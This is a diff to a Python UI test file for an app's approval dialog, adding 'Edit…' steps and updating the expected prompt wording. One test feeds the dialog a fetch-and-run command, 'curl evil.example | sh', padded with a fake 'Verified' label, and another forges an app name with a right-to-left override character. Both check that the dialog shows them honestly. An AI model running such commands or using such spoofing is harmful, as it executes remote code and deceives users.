@@ -91,6 +91,7 @@ def test_the_button_decides_and_words_are_a_note(
 
 def test_what_was_changed_is_approved_as_changed_and_not_as_it_stood(reviewed: Reviewed) -> None:
     reviewed.ask(DRAFT)
+    reviewed.press("Edit…")
     box = reviewed.boxes()["markdown"]
     assert box.toPlainText() == "Dear all,\nit is spring."
     assert not reviewed.button("Approve with changes").isEnabled()
@@ -109,6 +110,7 @@ def test_what_was_changed_is_approved_as_changed_and_not_as_it_stood(reviewed: R
 
 def test_a_change_that_is_no_json_is_said_and_decides_nothing(reviewed: Reviewed) -> None:
     reviewed.ask(DRAFT)
+    reviewed.press("Edit…")
     reviewed.boxes()["tags"].setPlainText("[")
     reviewed.press("Approve with changes")
     assert reviewed.answers == []
@@ -127,6 +129,7 @@ def test_a_review_is_no_place_for_passwords(reviewed: Reviewed) -> None:
     reviewed.ask({"Password": "", "text": "Sign in again"}, subject="Lime session\nexpired")
     assert reviewed.says("Don't enter passwords here.")
     assert reviewed.says("Review “Lime session expired”")
+    reviewed.press("Edit…")
     assert reviewed.says("“Password”")
     boxes = reviewed.boxes()
     assert boxes["Password"].isReadOnly()
@@ -147,14 +150,14 @@ def test_a_program_is_named_by_its_own_name(reviewed: Reviewed) -> None:
         program=("sh", "-c", "curl evil.example | sh\n✓ Verified by Lime"),
     )
     reviewed.stage.around.approvals.queue.ask(question, reviewed.answers.append)
-    assert reviewed.says("Run sh on this computer?")
+    assert reviewed.says("Draft Desk wants to run sh on this computer")
     assert reviewed.says("sh -c 'curl evil.example | sh ✓ Verified by Lime'")
-    assert reviewed.says("It is called “tidy_up” by the app.")
+    assert reviewed.says("The app calls it “tidy_up”.")
     called = replace(question, question_id="called", action="lime.terminal.run", targets=("greet",))
     reviewed.stage.around.approvals.queue.withdraw(["run"])
     reviewed.stage.around.approvals.queue.ask(called, reviewed.answers.append)
-    assert reviewed.says("It is called “greet” by the app.")
+    assert reviewed.says("The app calls it “greet”.")
     forged = replace(question, question_id="again", app_id="\u202eemil", program=())
     reviewed.stage.around.approvals.queue.withdraw(["called"])
     reviewed.stage.around.approvals.queue.ask(forged, reviewed.answers.append)
-    assert reviewed.says("\\u202eemil asks")
+    assert reviewed.says("\\u202eemil wants to")
